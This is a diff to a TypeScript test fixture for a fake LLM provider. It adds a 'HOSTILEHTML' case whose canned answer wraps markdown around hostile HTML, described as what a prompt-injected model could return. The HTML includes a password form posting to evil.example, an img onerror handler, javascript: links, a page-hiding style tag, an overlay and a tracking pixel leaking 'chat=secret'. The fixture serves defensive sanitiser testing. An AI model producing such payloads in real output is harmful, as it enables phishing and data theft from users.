@@ -7,6 +7,8 @@
 //   BENCHTIMING first token after 300 ms, complete after 1.5 s (npm run bench)
 //   BENCHINSTANT answers at once (npm run bench: the function's own overhead)
 //   MODELCOPY   (in a website description) the model writes valid site copy JSON
+//   HOSTILEHTML the answer mixes markdown with HTML meant to run script, post a
+//               form or restyle the app (HOSTILE_ANSWER)
 import type { Responder } from '../fixtures/fake-llm.ts';
 
 /** When each request reached a fake provider (the bench derives the first-token time from it). */
@@ -37,6 +39,36 @@ export const MODEL_SITE_COPY = {
   cta: { heading: 'Order your cake', text: 'Tell us the date and the number of guests and we will do the rest.', button: 'Order now' },
 };
 
+/**
+ * What a prompt-injected model could answer: legitimate markdown (a heading, a
+ * list, a table, code, a link, an image) around HTML that must not survive.
+ * Anything that runs sets window.__hostile.
+ */
+export const HOSTILE_ANSWER = [
+  '## Findings',
+  '',
+  'Some **bold** and *calm* text with a [safe link](https://example.com/docs) and `code`.',
+  '',
+  '- first',
+  '- second',
+  '',
+  '| plan | price |',
+  '| --- | ---: |',
+  '| pro | 149 |',
+  '',
+  '<form action="https://evil.example/steal" method="post"><input name="password" placeholder="Password"><button>Log in again</button></form>',
+  '',
+  '<style>body { display: none !important; }</style>',
+  '',
+  '<img src="x" onerror="window.__hostile = \'img onerror\'">',
+  '',
+  '[click me](javascript:window.__hostile=\'markdown link\')',
+  '',
+  '<a href="javascript:window.__hostile=\'html link\'">raw link</a> <p style="position:fixed;inset:0" class="fixed inset-0">cover</p>',
+  '',
+  '![tracker](https://evil.example/pixel.png?chat=secret)',
+].join('\n');
+
 export const e2eResponder: Responder = (request) => {
   const question = request.messages.filter((m) => m.role === 'user').at(-1)?.content ?? '';
   if (request.json && question.includes('MODELCOPY')) return { text: JSON.stringify(MODEL_SITE_COPY) };
@@ -49,6 +81,7 @@ export const e2eResponder: Responder = (request) => {
   if (question.includes('FAILALL') || (question.includes('FAILGEMINI') && request.model.startsWith('gemini'))) {
     return { status: 401, errorMessage: 'invalid api key' };
   }
+  if (question.includes('HOSTILEHTML')) return { text: HOSTILE_ANSWER, firstTokenDelayMs: 50, totalDurationMs: 300 };
   if (question.includes('SLOWSTREAM')) {
     return { text: `Slow answer from ${request.model}: ${'word '.repeat(60)}`, firstTokenDelayMs: 50, totalDurationMs: 8_000 };
   }
